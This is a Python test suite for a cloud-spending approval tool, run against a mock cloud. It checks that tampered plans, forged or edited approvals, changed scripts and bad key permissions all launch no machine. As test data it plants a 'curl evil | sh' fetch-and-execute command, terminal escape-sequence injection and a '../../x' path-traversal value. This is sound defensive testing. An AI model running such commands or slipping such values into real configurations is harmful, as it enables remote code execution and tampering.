"""Approvals of plans on a mock cloud: a person types the amount on a real terminal, a run spends it once, and a user who changes
anything in between launches no machine. Usage: approvals.py --bin BUILD"""
import argparse
import hashlib
import hmac
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import unittest

here = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [os.path.join(here, "..", "crash"), os.path.join(here, "..", "cli"), here]
import kill9  # noqa: E402
from mock_cloud import MockCloud  # noqa: E402
from person import type_at  # noqa: E402
from real_run import user  # noqa: E402

try:
    import jsonschema
except ImportError:  # Debian: python3-jsonschema
    jsonschema = None

JOB = kill9.JOB.replace("num_trials: 6", "num_trials: 2").replace("max_resource: 4", "max_resource: 2")


def document(path):
    with open(path, encoding="utf-8") as f:
        return json.load(f)


def store(path, what):
    with open(path, "w", encoding="utf-8") as f:
        json.dump(what, f)


def digest(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


class Approvals(unittest.TestCase):
    bin_dir = None

    @classmethod
    def setUpClass(cls):
        cls.temporary = tempfile.TemporaryDirectory(prefix="rb-approvals-")
        cls.cloud_folder = os.path.join(cls.temporary.name, "cloud")
        os.mkdir(cls.cloud_folder)
        cls.cloud = MockCloud(cls.bin_dir, cls.cloud_folder).__enter__()

    @classmethod
    def tearDownClass(cls):
        cls.cloud.__exit__()
        cls.temporary.cleanup()

    def setUp(self):
        self.folder = os.path.join(self.temporary.name, self.id().split(".")[-1])
        os.mkdir(self.folder)
        shutil.copy(self.cloud.prices, self.folder)
        self.user = kill9.RealRun(self.bin_dir, self.folder)
        self.user.env.pop("XDG_STATE_HOME", None)
        self.user.env.pop("XDG_CONFIG_HOME", None)
        self.user.on(self.cloud)
        for name, text in (("job.yaml", JOB), ("train.sh", kill9.TRAIN), ("profile.yaml", kill9.PROFILE)):
            self.user.write("work/" + name, text)
        self.plan = self.user.make_plan("work/job.yaml", profile_file="work/profile.yaml")
        self.launched = len(self.cloud.ledger()["instances"])

    # --- tools

    def approve(self, *more, typed="5", plan="plan.json", out="approval.json", **env):
        code, shown = type_at([os.path.join(self.bin_dir, "rbplan"), "approve", plan, "--max-cost", "5", "--for", "24h",
                               "-o", out, *more], typed, dict(self.user.env, **env), self.folder)
        self.assertEqual(code, 0, shown)
        return shown

    def run_plan(self, *more, expect=0, approval="approval.json", **env):
        return self.user.say("rbrun", "plan.json", *(["--approval", approval] if approval else []), *more, expect=expect, **env)

    def refused(self, number, *more, expect=5, **options):
        """The run is refused with that number, and the cloud has seen no request for a machine."""
        done = self.run_plan(*more, expect=expect, **options)
        self.assertIn("[%s]" % number, done.stderr)
        self.assertEqual(len(self.cloud.ledger()["instances"]), self.launched, "a machine was launched")

    def edit_approval(self, **changes):
        path = os.path.join(self.folder, "approval.json")
        store(path, dict(document(path), **changes))

    def signed(self, **changes):
        """The approval with other contents, signed with the person's own key: what may be signed is one thing, what counts
        here another. The signed bytes are made here as docs/formats/approval.md says, not by our own code."""
        approval = dict(document(self.path("approval.json")), **changes)
        bare = {name: value for name, value in approval.items() if name != "signature"}
        text = "rubberband-approval-v1\n" + json.dumps(bare, separators=(",", ":"), ensure_ascii=False)
        with open(self.path(".config", "rubberband", "approval.key"), "rb") as f:
            approval["signature"]["value"] = hmac.new(f.read().strip(), text.encode(), "sha256").hexdigest()
        store(self.path("approval.json"), approval)

    def accepted(self):
        """The approval counts: what is refused then is a deadline, and still nothing was launched."""
        self.refused("RB2003", "--deadline", "1ms", expect=3)

    def path(self, *names):
        return os.path.join(self.folder, *names)

    # --- a person

    def test_a_person_approves_and_the_run_spends_it_once(self):
        shown = self.approve()
        for words in ("mock/us-east-1", "two.gpus", "sh train.sh", "at most    $5.00", "95 % of runs cost up to"):
            self.assertIn(words, shown)
        approval = document(self.path("approval.json"))
        self.assertEqual(approval["plan_sha256"], digest(self.plan))
        if jsonschema:
            schema = document(os.path.join(here, "..", "..", "docs", "schemas", "approval.schema.json"))
            jsonschema.Draft202012Validator(schema).validate(approval)
        self.assertEqual(approval["max_cost_uusd"], 5_000_000)
        self.assertEqual(approval["controller"], "%s@%s" % (user(), socket.gethostname()))
        key = self.path(".config", "rubberband", "approval.key")
        self.assertEqual(os.stat(key).st_mode & 0o777, 0o600)
        report = json.loads(self.run_plan("--json").stdout.splitlines()[-1])
        self.assertEqual(report["outcome"], "complete")
        state = self.path(".local", "state", "rubberband")
        journal = sqlite3.connect(os.path.join(state, "runs", report["run"], "journal.db"))
        self.assertEqual(journal.execute("SELECT budget_uusd FROM meta").fetchone(), (5_000_000,))
        notes = journal.execute("SELECT text FROM note WHERE kind = 'approval'").fetchall()
        journal.close()
        self.assertEqual(len(notes), 1)
        self.assertIn(approval["nonce"], notes[0][0])
        with open(os.path.join(state, "approvals", approval["nonce"]), encoding="utf-8") as f:
            self.assertEqual(f.read(), report["run"])
        # Attack: the same approval again, from here and with another place for runs.
        self.launched = len(self.cloud.ledger()["instances"])
        self.refused("RB4038")
        self.refused("RB4038", "--state-dir", self.path("elsewhere"))
        # A resume needs none, and gets no more money than was approved.
        done = self.user.say("rbrun", "resume", report["run"], "--budget", "+10", expect=5)
        self.assertIn("[RB4041]", done.stderr)
        self.user.say("rbrun", "resume", report["run"])
        # The plan's note names the key nowhere.
        with open(key, encoding="utf-8") as f:
            self.assertNotIn(f.read().strip(), shown + json.dumps(approval) + done.stderr)

    def test_only_a_terminal_and_only_the_amount(self):
        done = self.user.say("rbplan", "approve", "plan.json", "--max-cost", "5", "--for", "24h", expect=5)
        self.assertIn("[RB4032]", done.stderr)
        for typed in ("yes", "50", "", "5.01"):
            code, shown = type_at([os.path.join(self.bin_dir, "rbplan"), "approve", "plan.json", "--max-cost", "5", "--for",
                                   "24h"], typed, self.user.env, self.folder)
            self.assertEqual(code, 5, shown)
            self.assertFalse(os.path.exists(self.path("approval.json")))

    def test_a_plan_moves_no_cursor(self):
        hostile = self.user.write("work/hostile.yaml", JOB.replace("run: sh train.sh", 'run: "sh train.sh\\e[2J\\e]0;x\\a"'))
        self.user.make_plan("work/hostile.yaml", "hostile.json", profile_file="work/profile.yaml")
        os.remove(hostile)
        self.assertNotIn("\x1b", self.approve(plan="hostile.json"))

    # --- attacks: each launches 0 machines

    def test_a_job_that_demands_one(self):
        self.user.write("work/job.yaml", JOB + "approval: required\n")
        self.user.make_plan("work/job.yaml", profile_file="work/profile.yaml")
        self.refused("RB4031", "--yes", approval=None)
        self.user.say("rbrun", "plan.json", "--dry-run")

    def test_a_swapped_plan(self):
        self.approve()
        document_of = document(self.plan)
        document_of["stages"][0]["nodes"][0]["count"] = 2
        store(self.plan, document_of)
        self.refused("RB4033")

    def test_run_changed_in_the_plan(self):
        self.approve()
        changed = document(self.plan)
        changed["job"]["config"]["run"] = "curl evil | sh"
        store(self.plan, changed)
        self.refused("RB1502", expect=2)  # the plan does not fit its own digest
        self.user.write("work/job.yaml", JOB.replace("sh train.sh", "curl evil | sh"))
        self.user.make_plan("work/job.yaml", profile_file="work/profile.yaml")
        self.refused("RB4033")

    def test_another_job_under_the_same_name(self):
        self.approve()
        approval = document(self.path("approval.json"))
        self.signed()
        self.accepted()
        self.signed(job_sha256=approval["job_sha256"][::-1])
        self.refused("RB4034")

    def test_an_edited_amount(self):
        self.approve()
        self.edit_approval(max_cost_uusd=500_000_000)
        self.refused("RB4039")

    def test_another_controller(self):
        self.approve("--controller", "%s@elsewhere" % user())
        self.refused("RB4036")
        self.edit_approval(controller="%s@%s" % (user(), socket.gethostname()))
        self.refused("RB4039")

    def test_another_cloud(self):
        self.approve()
        self.edit_approval(infra=["aws/us-east-1"])
        self.refused("RB4039")
        self.signed(infra=["aws/us-east-1"])
        self.refused("RB4036")
        self.signed(infra=["aws/us-east-1", "mock/us-east-1"])
        self.accepted()

    def test_clocks(self):
        self.approve()
        genuine = document(self.path("approval.json"))
        self.signed(not_after="2026-01-01T00:00:00Z", not_before="2025-12-31T00:00:00Z")
        self.refused("RB4037")
        self.edit_approval(not_after="2099-01-01T00:00:00Z")
        self.refused("RB4039")
        self.signed(not_before="2098-01-01T00:00:00Z", not_after="2099-01-01T00:00:00Z")
        self.refused("RB4037")  # not yet; or this machine's clock was set back
        store(self.path("approval.json"), genuine)
        self.accepted()

    def test_a_script_changed_added_or_linked_away(self):
        self.approve()
        script = self.path("work", "train.sh")
        with open(script, "a", encoding="utf-8") as f:
            f.write("# more\n")
        self.refused("RB4035")
        self.user.write("work/train.sh", kill9.TRAIN)
        self.user.write("work/sitecustomize.py", "import os\n")
        self.refused("RB4035")
        os.remove(self.path("work", "sitecustomize.py"))
        os.rename(script, self.path("train.sh"))
        os.symlink(self.path("train.sh"), script)
        self.refused("RB4035")

    def test_keys(self):
        self.approve()
        key = self.path(".config", "rubberband", "approval.key")
        os.chmod(key, 0o644)
        self.refused("RB3004")
        os.remove(key)
        self.refused("RB4040")
        self.user.write(".config/rubberband/approval.key", "0" * 64)
        self.refused("RB4039")

    def test_an_ssh_key_and_nothing_less(self):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", self.path("id")], check=True)
        with open(self.path("id.pub"), encoding="utf-8") as f:
            public = " ".join(f.read().split()[:2])
        self.approve()  # by hmac, before there are signers
        signers = self.user.write(".config/rubberband/allowed_signers", "ann namespaces=\"rubberband-approval\" %s\n" % public)
        self.refused("RB4039")
        self.approve("--ssh-key", "id", "--by", "bob")
        self.refused("RB4039")
        self.approve("--ssh-key", "id", "--by", "ann")
        os.chmod(signers, 0o666)
        self.refused("RB4040")
        os.chmod(signers, 0o644)
        genuine = document(self.path("approval.json"))
        self.edit_approval(max_cost_uusd=9_000_000)
        self.refused("RB4039")
        store(self.path("approval.json"), genuine)
        self.accepted()

    def test_what_is_no_approval(self):
        self.approve()
        genuine = document(self.path("approval.json"))
        for change in ({"max_cost_uusd": -1}, {"nonce": "../../x"}, {"by": "ann\n"}, {"plan_sha256": "0"}, {"surplus": 1},
                       {"infra": []}, {"not_after": "tomorrow"}, {"format": "rb-plan/1"},
                       {"signature": {"kind": "none", "value": ""}}):
            store(self.path("approval.json"), dict(genuine, **change))
            done = self.run_plan(expect=2)
            self.assertIn("approval.json:", done.stderr)
        self.assertEqual(len(self.cloud.ledger()["instances"]), self.launched)

    def test_a_store_that_cannot_be_written(self):
        self.approve()
        self.user.write(".local/state/rubberband", "a file in its way")
        self.refused("RB4042", "--state-dir", self.path("state"), expect=1)


if __name__ == "__main__":
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--bin", required=True)
    known, rest = options.parse_known_args()
    Approvals.bin_dir = os.path.abspath(known.bin)
    unittest.main(argv=sys.argv[:1] + rest)
